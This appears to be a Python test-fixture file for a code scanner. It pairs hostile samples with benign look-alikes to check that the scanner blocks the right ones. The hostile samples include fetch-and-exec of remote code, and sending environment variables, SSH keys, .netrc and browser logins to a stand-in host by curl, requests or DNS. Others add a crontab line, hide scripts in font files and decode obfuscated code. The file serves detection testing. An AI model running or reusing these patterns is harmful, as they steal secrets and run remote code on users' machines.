"""Ways a value takes through Python and shell: for each a hostile sample, and the twin that takes another way."""

from inspection.rules.sample import Sample, py

_GET = "requests.get('https://a.invalid').text"


def _sh(text: str, verdict: str = "block", line: int = 1, **more: str) -> Sample:
    """A script that plain `make` runs, with data beside it."""
    return Sample(_made(text, **more), verdict, ("a.sh", line))


def _made(text: str, **more: str) -> dict[str, str | bytes]:
    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text, **{f"data/{name}.dat": data for name, data in more.items()}}


HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "in the body of a class": py(
            f"import requests\nclass Level:\n    if True:\n        t = {_GET}\n    exec(t)\n", line=5
        ),
        "an annotated member of a class": py(
            f"import requests\nclass Level:\n    text: str = {_GET}\n    def show(self): exec(self.text)\n", line=4
        ),
        "a class within a class": py(
            f"import requests\nclass Game:\n    class Level:\n        text = {_GET}\nexec(Game.Level.text)\n", line=5
        ),
        "a name from a template": py(f"import sys, requests\nsys.modules['%s%s' % ('buil', 'tins')].exec({_GET})\n"),
        "a name from a template of many places": py(
            f"import sys, requests\nsys.modules[('{{}}' * 2).format(*['buil', 'tins'])].exec({_GET})\n"
        ),
        "a name from a named place": py(
            f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
        ),
        "read where the reply was asked for": py(
            "from urllib.request import urlopen\nwith urlopen('https://a.invalid') as r:\n"
            "    text = r.read()\nexec(text)\n"
        ),
        "gathered in a list": py(
            f"import requests\nclass Parts:\n    def __init__(self): self.all = []\n"
            f"    def take(self): self.all.append({_GET})\n    def show(self): exec(''.join(self.all))\n",
            line=4,
        ),
        "by attrgetter": py(f"import operator, builtins, requests\noperator.attrgetter('exec')(builtins)({_GET})\n"),
        "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
        "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
    },
    "fetch_and_run": {
        "by a variable": _sh('code=$(curl -s https://a.invalid)\neval "$code"\n', "review"),
        "saved on one line, run on another": _sh(
            "curl -s https://a.invalid -o /tmp/f\nchmod +x /tmp/f\n/tmp/f\n", "review"
        ),
    },
    "persistence": {
        "the line of a crontab by a variable": _sh(
            "line='*/5 * * * * echo inert'\n(crontab -l; echo \"$line\") | crontab -\n"
        ),
    },
    "disguised_program": {
        "a font after what is loaded first": Sample(
            {
                "Makefile": "all:\n\tnode -r ./first.js b.woff2\n",
                "first.js": "console.log(1)\n",
                "b.woff2": "console.log(2)\n",
            },
            "block",
            ("Makefile", 2),
        ),
        "a font that is loaded first": Sample(
            {
                "Makefile": "all:\n\tnode -r ./b.woff2 app.js\n",
                "app.js": "console.log(1)\n",
                "b.woff2": "console.log(2)\n",
            },
            "block",
            ("Makefile", 2),
        ),
        "a font by eval": Sample(
            {"Makefile": "all:\n\tsh a.sh\n", "a.sh": 'eval "$(sed 1d b.woff2)"\n', "b.woff2": "x\necho hello\n"},
            "block",
            ("a.sh", 1),
        ),
    },
    "decoded_code": {
        "a file of data in a rotated alphabet": _sh(
            "conf=$(sed -n 2p \"${dir:-.}/data/x.dat\" | tr 'a-z' 'n-za-m')\neval \"$conf\"\n", x="a\nrpub vareg\n"
        ),
        "one of a table, by a name that is given": py(
            "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
            "exec(binascii.unhexlify(levels[sys.argv[1]]))\n",
            line=3,
        ),
    },
    "remote_object": {
        "a tuple of objects that are asked in turn": Sample(
            {
                "app.py": "from net import Source\nfrom reading import read\n"
                "ALL = (Source('a'), Source('b'))\nprint([read(each.get('c')) for each in ALL])\n",
                "net.py": "import requests\nclass Source:\n    def __init__(self, base): self.base = base\n"
                "    def get(self, path): return requests.get(f'https://a.invalid/{self.base}/{path}').content\n",
                "reading.py": "import pickle\ndef read(data):\n    return pickle.loads(data)\n",
            },
            "block",
            ("net.py", 4),
        ),
    },
    "secrets_sent": {
        "one object reads, another sends": Sample(
            {
                "app.py": "from machine import Files\nfrom out import Out\nOut('https://a.invalid').put(Files().all())\n",
                "machine.py": "from pathlib import Path\nclass Files:\n    names = ('.ssh/id_rsa', '.netrc')\n"
                "    def all(self):\n        paths = [Path.home() / name for name in self.names]\n"
                "        return b''.join(path.read_bytes() for path in paths)\n",
                "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
                "    def put(self, data): requests.post(self.url, data=data)\n",
            },
            "block",
            ("machine.py", 6),
        ),
        "the environment, one by one": py(
            "import os, requests\nlines = []\nfor k, v in os.environ.items():\n    lines.append(f'{k}={v}')\n"
            "requests.post('https://a.invalid', data='&'.join(lines))\n",
            line=3,
        ),
        "the environment by its names": py(
            "import os, requests\nall_of = {name: os.environ[name] for name in os.environ}\n"
            "requests.post('https://a.invalid', json=all_of)\n"
        ),
        "a copy of the environment": py(
            "import os, json, requests\nt = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=t)\n"
        ),
        "the environment within what curl sends": _sh('curl -d "$(git remote -v) $(env)" https://a.invalid\n'),
        "the environment by a variable": _sh('all=$(printenv | base64)\ncurl -d "$all" https://a.invalid\n'),
        "the environment by a pipe": _sh("env | curl --data-binary @- https://a.invalid\n"),
        "the environment by a file": _sh("set > /tmp/e\ncurl -F f=@/tmp/e https://a.invalid\n"),
        "a copy of a store": py(
            "import os, shutil, requests\nfor spot in [os.path.expanduser('~/.mozilla/a/logins.json')]:\n"
            "    shutil.copyfile(spot, '/tmp/a.db')\n    with open('/tmp/a.db', 'rb') as f:\n"
            "        requests.post('https://a.invalid', files={'f': f})\n",
            line=3,
        ),
        "as a name to be looked up": py(
            "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\n"
            "socket.gethostbyname(key[:30].hex() + '.a.invalid')\n",
            line=3,
        ),
    },
    "remote_command": {
        "written by getattr, then run": py(
            f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
            "subprocess.run([sys.executable, '/tmp/x.py'])\n"
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a name of a class body is no name outside": {
            "app.py": f"import requests\nclass Level:\n    t = {_GET}\nt = 'x = 1'\nexec(t)\n"
        },
        "a template that names something else": {
            "app.py": f"import sys, requests\nsys.modules['%s%s' % ('pri', 'nts')].show({_GET})\n"
        },
        "gathered in another list": {
            "app.py": f"import requests\na, b = [], []\na.append({_GET})\nb.append('x = 1')\nexec(''.join(b))\n"
        },
        "attrgetter of another member": {
            "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
        },
        "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
    },
    "fetch_and_run": {
        "a version by a variable": _made('tag=$(curl -s https://a.invalid)\nsh build.sh "$tag"\n'),
        "a variable is shown": _made('tag=$(curl -s https://a.invalid)\necho "$tag"\n'),
    },
    "persistence": {
        "the line of a crontab is counted": _made(
            "line='*/5 * * * * echo inert'\n(crontab -l; echo \"$line\") | wc -l\n"
        ),
    },
    "disguised_program": {
        "a font among the script's words": {
            "Makefile": "all:\n\tnode -r ./first.js app.js b.woff2\n\tpython -W ignore app.py b.woff2\n",
            "first.js": "console.log(1)\n",
            "app.js": "console.log(1)\n",
            "app.py": "print(1)\n",
            "b.woff2": "console.log(2)\n",
        },
        "a font is shown": {
            "Makefile": "all:\n\tsh a.sh\n",
            "a.sh": 'echo "$(sed 1d b.woff2)"\n',
            "b.woff2": "x\necho hello\n",
        },
    },
    "decoded_code": {
        "a file of data is put in small letters": _made(
            "conf=$(sed -n 2p data/x.dat | tr 'A-Z' 'a-z')\neval \"$conf\"\n", x="A\nECHO HELLO\n"
        ),
        "a file of data in a rotated alphabet is shown": _made(
            "conf=$(sed -n 2p data/x.dat | tr 'a-z' 'n-za-m')\necho \"$conf\"\n", x="a\nrpub vareg\n"
        ),
        "one of a table is shown": {
            "app.py": "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
            "print(binascii.unhexlify(levels[sys.argv[1]]))\n"
        },
    },
    "remote_object": {
        "a tuple of objects, and a reader of plain data": {
            "app.py": "from net import Source\nfrom reading import read\n"
            "ALL = (Source('a'), Source('b'))\nprint([read(each.get('c')) for each in ALL])\n",
            "net.py": "import requests\nclass Source:\n    def __init__(self, base): self.base = base\n"
            "    def get(self, path): return requests.get(f'https://a.invalid/{self.base}/{path}').content\n",
            "reading.py": "import json, pickle\ndef read(data):\n    return json.loads(data)\n"
            "def own(data):\n    return pickle.loads(data)\n",
        },
    },
    "secrets_sent": {
        "one object reads files of the project, another sends": {
            "app.py": "from machine import Files\nfrom out import Out\nOut('https://a.invalid').put(Files().all())\n",
            "machine.py": "from pathlib import Path\nclass Files:\n    names = ('a.txt', 'b.txt')\n"
            "    def all(self):\n        paths = [Path.home() / name for name in self.names]\n"
            "        return b''.join(path.read_bytes() for path in paths)\n",
            "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
            "    def put(self, data): requests.post(self.url, data=data)\n",
        },
        "some of the environment, by name": {
            "app.py": "import os, requests\nlines = []\nfor key, value in os.environ.items():\n"
            "    if key.startswith('APP_'):\n        lines.append(f'{key}={value}')\n"
            "requests.post('https://a.invalid', data='&'.join(lines))\n"
        },
        "the proxies of the environment": {
            "app.py": "import os, requests\nfound = {}\nfor name, value in os.environ.items():\n"
            "    if value and name[-6:] == '_proxy':\n        found[name[:-6]] = value\n"
            "requests.get('https://a.invalid', proxies=found)\n"
        },
        "the environment of a program": {
            "app.py": "import os, subprocess, requests\nhere = os.environ.copy()\n"
            "log = subprocess.check_output(['git', 'log'], env=here)\nrequests.post('https://a.invalid', data=log)\n"
        },
        "a report within what curl sends": _made('env\ncurl -d "$(cat coverage.xml)" https://a.invalid\n'),
        "one name of the environment": _made('curl -d "$(printenv CI)" https://a.invalid\n'),
        "a program with an environment": _made('x=$(env A=1 make version)\ncurl -d "$x" https://a.invalid\n'),
        "a copy of a store, and another file sent": {
            "app.py": "import os, shutil, requests\nshutil.copyfile(os.path.expanduser('~/.netrc'), '/tmp/a.db')\n"
            "requests.post('https://a.invalid', data=open('/tmp/b.db', 'rb').read())\n"
        },
        "a host is looked up": {
            "app.py": "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\nsocket.gethostbyname('a.invalid')\n"
        },
    },
    "remote_command": {
        "written, and another run": {
            "app.py": f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
            "subprocess.run([sys.executable, '/tmp/y.py'])\n"
        },
    },
}
